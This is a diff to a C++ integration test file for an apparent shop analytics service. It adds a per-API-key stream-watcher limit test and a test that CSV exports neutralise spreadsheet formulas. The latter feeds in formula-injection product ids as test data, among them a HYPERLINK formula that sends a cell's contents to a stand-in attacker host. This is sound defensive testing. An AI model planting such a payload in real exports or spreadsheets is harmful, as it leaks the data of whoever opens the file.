@@ -2,13 +2,8 @@
 // gRPC, the same stream as Server-Sent Events through the gateway, and the
 // CSV exports read back against their JSON twins.
 #include <grpcpp/grpcpp.h>
-#include <sys/socket.h>
-#include <sys/time.h>
 #include <sys/wait.h>
 
-#include <boost/asio/connect.hpp>
-#include <boost/asio/ip/tcp.hpp>
-#include <boost/asio/write.hpp>
 #include <chrono>
 #include <optional>
 #include <string>
@@ -16,6 +11,7 @@
 #include <vector>
 
 #include "absl/strings/match.h"
+#include "absl/strings/numbers.h"
 #include "absl/strings/str_cat.h"
 #include "absl/strings/str_format.h"
 #include "gmock/gmock.h"
@@ -24,13 +20,12 @@
 #include "rapidjson/document.h"
 #include "shopstream/v1/analytics.grpc.pb.h"
 #include "shopstream/v1/ingest.grpc.pb.h"
+#include "tests/event_stream_client.h"
 #include "tests/local_stack.h"
 
 namespace shopstream::testing {
 namespace {
 
-namespace net = boost::asio;
-using tcp = net::ip::tcp;
 using ::testing::HasSubstr;
 
 // Generous bounds; the updates arrive in a fraction of these.
@@ -45,9 +40,13 @@ std::string Event(const std::string& shop, const std::string& id,
     if (c == '"' || c == '\\') quoted += '\\';
     if (c == '\n') {
       quoted += "\\n";
-      continue;
+    } else if (c == '\r') {
+      quoted += "\\r";
+    } else if (c == '\t') {
+      quoted += "\\t";
+    } else {
+      quoted += c;
     }
-    quoted += c;
   }
   return absl::StrCat(R"({"shop_id":")", shop, R"(","event_id":")", id,
                       R"(","event_type":")", type,
@@ -61,59 +60,6 @@ void Ingest(LocalStack& stack, const std::string& shop,
   HttpResponse r = stack.Post("/v1/events", body, shop);
   ASSERT_EQ(r.status, 202) << r.body;
 }
-
-// A raw HTTP client for an event stream through the gateway.
-class EventStreamClient {
- public:
-  EventStreamClient(int port, const std::string& target) : socket_(io_) {
-    socket_.connect(tcp::endpoint(net::ip::make_address("127.0.0.1"), port));
-    const std::string request =
-        absl::StrCat("GET ", target, " HTTP/1.1\r\nHost: 127.0.0.1\r\n",
-                     "Accept: text/event-stream\r\n\r\n");
-    net::write(socket_, net::buffer(request));
-    timeval timeout{10, 0};  // no read may hang the test
-    setsockopt(socket_.native_handle(), SOL_SOCKET, SO_RCVTIMEO, &timeout,
-               sizeof(timeout));
-  }
-
-  // The next "data:" event's JSON; nullopt when the stream ends first.
-  std::optional<std::string> NextData() {
-    while (true) {
-      const size_t end = received_.find("\n\n", consumed_);
-      if (end != std::string::npos) {
-        const std::string event = received_.substr(consumed_, end - consumed_);
-        consumed_ = end + 2;
-        if (absl::StartsWith(event, "data: ")) return event.substr(6);
-        continue;  // headers, comments
-      }
-      char buffer[4096];
-      boost::system::error_code error;
-      const size_t n = socket_.read_some(net::buffer(buffer), error);
-      if (error) return std::nullopt;
-      received_.append(buffer, n);
-      // The headers end in CRLF CRLF; events start after them.
-      if (consumed_ == 0) {
-        const size_t headers_end = received_.find("\r\n\r\n");
-        if (headers_end == std::string::npos) continue;
-        headers_ = received_.substr(0, headers_end);
-        consumed_ = headers_end + 4;
-      }
-    }
-  }
-
-  const std::string& headers() const { return headers_; }
-  void Close() {
-    boost::system::error_code ignored;
-    socket_.close(ignored);
-  }
-
- private:
-  net::io_context io_;
-  tcp::socket socket_;
-  std::string received_;
-  std::string headers_;
-  size_t consumed_ = 0;
-};
 
 int64_t PageViews(const std::string& json) {
   rapidjson::Document doc;
@@ -221,6 +167,26 @@ TEST(StreamingTest, ClosingTheEventStreamEndsTheBackendWatch) {
     }
   }
   EXPECT_TRUE(watching) << "the closed stream's watch was never released";
+}
+
+TEST(StreamingTest, OneKeyCannotHoldEveryEventStreamOfItsShop) {
+  LocalStack stack({.query_flags = {"--max_watchers_per_key=1"}});
+  const std::string key = stack.ReadKey("s");
+  EventStreamClient first(stack.http_port(),
+                          "/v1/shops/s/summary:watch?key=" + key);
+  ASSERT_TRUE(first.NextData().has_value());
+
+  HttpResponse refused = HttpRequest(
+      stack.http_port(), "GET", "/v1/shops/s/summary:watch?key=" + key, "",
+      "application/json", {{"Accept", "text/event-stream"}});
+  EXPECT_EQ(refused.status, 429);
+  EXPECT_EQ(refused.headers["retry-after"], "1");
+  EXPECT_THAT(refused.body, HasSubstr("at most 1 summary watchers of API key"));
+
+  EventStreamClient other_key(stack.http_port(),
+                              "/v1/shops/s/summary:watch?key=" +
+                                  stack.AnotherKey("s", auth::Scope::kRead));
+  EXPECT_TRUE(other_key.NextData().has_value());
 }
 
 TEST(StreamingTest, SigtermWithWatchersConnectedExitsCleanly) {
@@ -342,6 +308,78 @@ TEST(StreamingTest, CsvDownloadsMatchTheirJsonTwins) {
   EXPECT_EQ(total_views, 10);
   EXPECT_EQ(series_rows[11][0], "2025-10-02T10:00:00Z");
   EXPECT_EQ(series_rows[11][4], "12.50");
+}
+
+// A cell a spreadsheet would run as a formula: what a product id must never
+// become in a download.
+bool LooksLikeFormula(const std::string& cell) {
+  return !cell.empty() &&
+         std::string("=+-@\t\r").find(cell[0]) != std::string::npos;
+}
+
+bool IsNumber(const std::string& cell) {
+  double ignored;
+  return absl::SimpleAtod(cell, &ignored);
+}
+
+TEST(StreamingTest, CsvDownloadsTurnFormulasIntoText) {
+  LocalStack stack;
+  const std::vector<std::string> products = {
+      R"(=HYPERLINK("http://evil.example/?"&A1,"Click"))",
+      "+1+2",
+      "-1+2",
+      "@SUM(A1:A9)",
+      "\t=1+2",
+      "\r=1+2",
+      "=1,2"};
+  int n = 0;
+  for (size_t i = 0; i < products.size(); ++i) {
+    for (size_t views = 0; views <= i; ++views) {
+      Ingest(
+          stack, "formula",
+          Event("formula", absl::StrCat("v", n++), "page_view", products[i]));
+    }
+  }
+  Ingest(
+      stack, "formula",
+      Event("formula", "buy", "purchase", "-1+2", R"(,"order_amount":12.5)"));
+
+  const std::string range = "from=2025-10-02T00:00:00Z&to=2025-10-03T00:00:00Z";
+  HttpResponse top_json =
+      stack.Get("/v1/shops/formula/products/top?limit=100&" + range, "formula");
+  ASSERT_EQ(top_json.status, 200) << top_json.body;
+  HttpResponse top_csv = stack.Get(
+      "/v1/shops/formula/products/top.csv?limit=100&" + range, "formula");
+  ASSERT_EQ(top_csv.status, 200) << top_csv.body;
+  rapidjson::Document top;
+  top.Parse(top_json.body.c_str());
+  ASSERT_TRUE(top.IsObject() && top.HasMember("products")) << top_json.body;
+  const auto& json_products = top["products"].GetArray();
+  ASSERT_EQ(json_products.Size(), products.size());
+  const auto rows = ParseCsv(top_csv.body);
+  ASSERT_EQ(rows.size(), products.size() + 1) << top_csv.body;
+  for (size_t i = 0; i < json_products.Size(); ++i) {
+    const auto& p = json_products[i];
+    const auto& row = rows[i + 1];
+    ASSERT_EQ(row.size(), 6u);
+    // The id as a spreadsheet shows it: text, apostrophe and all.
+    EXPECT_EQ(row[0], absl::StrCat("'", p["product_id"].GetString()));
+    EXPECT_EQ(row[1], absl::StrCat(p["page_views"].GetInt64()));
+    EXPECT_EQ(row[2], absl::StrCat(p["add_to_carts"].GetInt64()));
+    EXPECT_EQ(row[3], absl::StrCat(p["purchases"].GetInt64()));
+    EXPECT_EQ(row[4], Cents(p["revenue"]));
+    EXPECT_EQ(row[5], Cents(p["conversion_rate"]));
+  }
+  HttpResponse series_csv = stack.Get(
+      "/v1/shops/formula/timeseries.csv?bucket=HOUR&" + range, "formula");
+  ASSERT_EQ(series_csv.status, 200) << series_csv.body;
+  for (const auto& file : {rows, ParseCsv(series_csv.body)}) {
+    for (const auto& row : file) {
+      for (const std::string& cell : row) {
+        EXPECT_TRUE(!LooksLikeFormula(cell) || IsNumber(cell)) << cell;
+      }
+    }
+  }
 }
 
 }  // namespace
